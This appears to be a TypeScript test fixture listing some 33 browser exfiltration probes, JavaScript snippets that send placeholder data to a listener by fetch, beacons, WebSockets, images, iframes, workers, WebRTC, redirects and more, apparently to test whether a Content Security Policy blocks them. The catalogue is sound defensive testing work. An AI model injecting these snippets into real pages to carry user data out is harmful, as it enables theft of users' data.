// Every way known to get a byte out of a page, each as a small program to be run in the page's own world, as if an attacker had come that far.
// `${to}` is the address of the listener, `${data}` what would be stolen. Nothing here knows of the policy that is under test.

export type BrowserName = 'chromium' | 'firefox';

export interface Probe {
  name: string;
  /** JavaScript; what it throws or rejects with is of no interest. */
  source: (to: string, data: string) => string;
  /** The page is left or replaced by it, so it gets a page of its own. */
  leaves?: true;
  /** Browsers in which it does not even send from a page without a policy, as the control shows; why. */
  never?: Partial<Record<BrowserName, string>>;
  /** Browsers in which it sends from our page too: no policy can forbid it there. */
  sends?: BrowserName[];
}

// In the page first, for what works only there.
const element = (tag: string, attributes: string) => `
  const made = document.createElement('${tag}');
  document.body.append(made);
  ${attributes}`;
const worker = (body: string) => `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(body)}])))`;

export const probes: Probe[] = [
  { name: 'fetch', source: (to, data) => `fetch('${to}fetch?${data}', { mode: 'no-cors' })` },
  {
    name: 'fetch keepalive',
    source: (to, data) => `fetch('${to}keepalive', { mode: 'no-cors', method: 'POST', keepalive: true, body: '${data}' })`,
  },
  { name: 'XMLHttpRequest', source: (to, data) => `const x = new XMLHttpRequest(); x.open('GET', '${to}xhr?${data}'); x.send()` },
  { name: 'WebSocket', source: (to, data) => `new WebSocket('${to.replace('http', 'ws')}ws?${data}')` },
  { name: 'EventSource', source: (to, data) => `new EventSource('${to}events?${data}')` },
  { name: 'sendBeacon', source: (to, data) => `navigator.sendBeacon('${to}beacon', '${data}')` },
  { name: 'image', source: (to, data) => `new Image().src = '${to}image?${data}'` },
  { name: 'style sheet', source: (to, data) => element('link', `made.rel = 'stylesheet'; made.href = '${to}style?${data}';`) },
  {
    name: 'background image',
    source: (to, data) => element('p', `made.textContent = 'x'; made.style.backgroundImage = 'url(${to}background?${data})';`),
  },
  { name: 'font', source: (to, data) => `new FontFace('probe', 'url(${to}font?${data})').load()` },
  { name: 'script', source: (to, data) => element('script', `made.src = '${to}script?${data}';`) },
  { name: 'import()', source: (to, data) => `import('${to}module?${data}')` },
  { name: 'audio', source: (to, data) => element('audio', `made.src = '${to}audio?${data}'; made.load();`) },
  { name: 'video poster', source: (to, data) => element('video', `made.poster = '${to}poster?${data}';`) },
  { name: 'object', source: (to, data) => element('object', `made.data = '${to}object?${data}';`) },
  { name: 'embed', source: (to, data) => element('embed', `made.src = '${to}embed?${data}';`) },
  { name: 'iframe', source: (to, data) => element('iframe', `made.src = '${to}frame?${data}';`) },
  { name: 'iframe srcdoc', source: (to, data) => element('iframe', `made.srcdoc = '<img src="${to}srcdoc?${data}">';`) },
  {
    name: 'manifest',
    source: (to, data) => element('link', `made.rel = 'manifest'; made.href = '${to}manifest?${data}';`),
    never: { chromium: 'headless mode has no use for it', firefox: 'desktop Firefox does not load it' },
  },
  { name: 'prefetch', source: (to, data) => element('link', `made.rel = 'prefetch'; made.href = '${to}prefetch?${data}';`) },
  {
    name: 'preload',
    source: (to, data) => element('link', `made.rel = 'preload'; made.as = 'image'; made.href = '${to}preload?${data}';`),
  },
  {
    name: 'preconnect',
    source: (to) => element('link', `made.rel = 'preconnect'; made.href = '${to}';`),
    never: { chromium: 'not to a loopback address', firefox: 'not to a loopback address' },
  },
  {
    name: 'speculation rules',
    source: (to, data) =>
      element(
        'script',
        `made.type = 'speculationrules'; made.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${to}speculation?${data}'] }] });`,
      ),
    never: { firefox: 'it has none' },
  },
  {
    name: 'anchor ping',
    source: (to, data) => element('a', `made.href = '#'; made.ping = '${to}ping?${data}'; made.click();`),
    never: { firefox: 'it is off by default' },
  },
  { name: 'blob worker, fetch inside', source: (to, data) => worker(`fetch('${to}blob-worker?${data}', { mode: 'no-cors' })`) },
  { name: 'blob worker, importScripts', source: (to, data) => worker(`importScripts('${to}import-scripts?${data}')`) },
  { name: 'WebTransport', source: (to) => `new WebTransport('${to.replace('http:', 'https:')}transport')` },
  {
    name: 'WebRTC',
    source: (to) =>
      `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${new URL(to).host}' }] }); peer.createDataChannel('x'); peer.setLocalDescription()`,
    never: { firefox: 'not to a loopback address' },
  },
  { name: 'window.open', source: (to, data) => `window.open('${to}window?${data}')`, leaves: true },
  {
    name: 'form',
    source: (to, data) => `${element('form', `made.action = '${to}form?${data}'; made.method = 'post'; made.submit();`)}`,
    leaves: true,
  },
  {
    name: 'meta refresh',
    source: (to, data) =>
      `const made = document.createElement('meta'); made.httpEquiv = 'refresh'; made.content = '0;url=${to}refresh?${data}'; document.head.append(made)`,
    leaves: true,
    sends: ['firefox'],
  },
  { name: 'location', source: (to, data) => `location.href = '${to}location?${data}'`, leaves: true, sends: ['firefox'] },
  {
    name: 'anchor click',
    source: (to, data) => element('a', `made.href = '${to}anchor?${data}'; made.click();`),
    leaves: true,
    sends: ['firefox'],
  },
];
